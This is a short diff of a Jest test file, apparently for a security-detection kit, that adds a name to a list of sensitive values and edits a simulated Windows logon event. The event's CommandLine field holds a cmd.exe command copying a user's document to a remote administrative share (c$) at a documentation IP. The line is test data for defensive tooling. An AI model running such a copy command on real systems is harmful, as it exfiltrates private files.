@@ -2,14 +2,14 @@
 import { afterEach, describe, expect, it } from '@jest/globals'
 import { createKit } from '../testing/kit.ts'
 
-const PEOPLE = ['kanarek', '198.51.100.77', 'nightingale', 'secret-plan', 'Kowalczyk']
+const PEOPLE = ['kanarek', '198.51.100.77', 'nightingale', 'secret-plan', 'Kowalczyk', 'zielonybudynek']
 const fields = {
   action: 'open',
   EventID: 4625,
   TargetUserName: 'CORP\\kanarek',
   IpAddress: '198.51.100.77',
   requested_by: 'nightingale',
-  CommandLine: 'C:\\Windows\\cmd.exe /c copy C:\\Users\\kanarek\\plan.doc \\\\198.51.100.77\\c$',
+  CommandLine: 'C:\\Windows\\cmd.exe /c copy C:\\Users\\kanarek\\zielonybudynek.doc \\\\198.51.100.77\\c$',
   message: 'kanarek has opened secret-plan',
 }
 const single = `title: Files of Maria Kowalczyk were copied
